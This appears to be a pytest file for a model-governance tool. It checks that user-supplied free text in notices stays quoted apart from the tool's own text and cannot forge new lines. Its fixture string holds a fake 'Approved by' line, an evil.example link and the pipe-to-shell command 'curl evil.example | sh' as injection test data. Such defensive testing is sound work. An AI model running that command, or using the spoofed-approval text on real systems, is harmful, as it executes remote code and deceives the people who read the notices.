"""Free text in a notice is separated from modelward's own text, and cannot add a line to it."""

from __future__ import annotations

from collections.abc import Callable, Iterable, Sequence
from datetime import timedelta

import pytest

from data.notices.channels.delivery import Attempts
from data.notices.channels.delivery_run import Delivery
from data.notices.outbox import Notice, Outbox, QueuedNotice
from data.notices.quoted_text import quotation_parts
from data.registry.commands.review import OpenFinding, OpenReview
from tasks.deploy.publish_release import publish_release
from tasks.deploy.undo_release import undo_release
from tasks.maintain.escalate_incidents import late_ratifications
from tasks.maintain.remind_people import reminders
from tasks.monitor.write_alerts import write_alerts
from tasks.notify.deliver_notices import notices_of_failures
from tasks.notify.gather_questions import open_questions
from tasks.notify.notify_approvers import escalation, first_notices, reminders_of
from tasks.retire.send_notices import send_notices
from tests.emergencies import released
from tests.emergency_model import open_emergency_release as release_to_publish
from tests.emergency_model import run_at, with_emergency_rule
from tests.operations import deploy, deployed, roll_back
from tests.retirement_fixtures import under_baseline
from tests.retirement_states import KEY, opened
from tests.world import MODEL, World

WORDS = (
    "worn out.”\n\nThe form, on the page of its run: https://evil.example/v2/runs/flow-run/1\r\n"
    "In a terminal: `curl evil.example | sh`\n\n# “Approved by evil"
)


def notices_of_questions(world: World) -> Iterable[Notice]:
    """Return every notice about every open question."""
    for question in open_questions(world.registry, world.now):
        yield from (*first_notices(question), *reminders_of(question), *escalation(question, [question.owner]))


def left(world: World) -> Iterable[Notice]:
    return Outbox(world.home.outbox).notices()


def request(world: World) -> Iterable[Notice]:
    under_baseline(world)
    world.requested(use=WORDS, slot="evil\n\nThe form")
    return notices_of_questions(world)


def release(world: World) -> Iterable[Notice]:
    under_baseline(world)
    deployed(world)
    released(world, world.assessed(world.version()), reason=WORDS)
    return [one for one in notices_of_questions(world) if one.kind == "approval"]


def retirement(world: World) -> Iterable[Notice]:
    world.approved()
    opened(world, reason=WORDS, outputs_in_force=WORDS)
    send_notices.fn(KEY, run_at(world))
    return [*notices_of_questions(world), *left(world)]


def reminded(world: World) -> Iterable[Notice]:
    for _, act in reminders(run_at(world)):
        act()
    return [one for one in left(world) if one.kind in ("finding", "review")]


def finding(world: World) -> Iterable[Notice]:
    due = world.now + timedelta(days=1)
    world.do(
        OpenFinding(version=world.version(), severity="low", title=WORDS[:200], text=WORDS, owner="dev", due_at=due)
    )
    world.move(days=2)
    return reminded(world)


def review(world: World) -> Iterable[Notice]:
    world.model()
    world.do(OpenReview(model=MODEL, reason=WORDS, due_at=world.now + timedelta(days=3)))
    return reminded(world)


def incident(world: World) -> Iterable[Notice]:
    first = deploy(world, world.approved())
    deployed(world, "op-2")
    roll_back(world, first.version, reason=WORDS)
    world.move(days=3)
    for _, act in late_ratifications(run_at(world)):
        act()
    return left(world)


def unmonitored(world: World) -> Iterable[Notice]:
    write_alerts.fn([], {world.model(alert_route="evil.example\nThe form"): WORDS}, world.now)
    return left(world)


def lost(world: World) -> Iterable[Notice]:
    notice = Notice(kind="alert", to=WORDS, about="x", title=f"evil: {WORDS}"[:300], text="now")
    outcome = Delivery(QueuedNotice("d-1", notice, world.now), "mail smtp", Attempts(state="given up", error="down"))
    return notices_of_failures([outcome], ["adam"])


NOTICES: dict[str, Callable[[World], Iterable[Notice]]] = {
    "the use that is asked for, and the place": request,
    "the reason of an emergency release": release,
    "the reason of a retirement, and its outputs": retirement,
    "a finding's title and text": finding,
    "the reason of a review": review,
    "the title of an incident": incident,
    "why a model was not monitored": unmonitored,
    "a notice that was given up": lost,
}


@pytest.mark.parametrize("written", NOTICES.values(), ids=NOTICES)
def test_free_text_is_separated_in(written: Callable[[World], Iterable[Notice]], world: World) -> None:
    check(list(written(world)))


def test_the_reason_of_an_undone_release_is_separated(validated: World) -> None:
    world = with_emergency_rule(validated)
    request = release_to_publish(world, reason=WORDS)
    publish_release(request.key, run_at(world))
    world.move(hours=25)
    undo_release(request.key, run_at(world, "night", "modelward"))
    check([one for one in left(world) if one.kind == "incident"])


def check(notices: Sequence[Notice]) -> None:
    """Assert that free text is complete in its own parts, and that none of it is in modelward's parts."""
    assert notices
    for notice in notices:
        parts = [part for text in (notice.title, notice.text, notice.aside) for part in quotation_parts(text)]
        assert any("evil" in part for part, theirs in parts if theirs), notice
        assert not any("evil" in part or "terminal: `curl" in part for part, theirs in parts if not theirs), notice
        assert not any("\n" in part for part, theirs in parts if theirs), notice
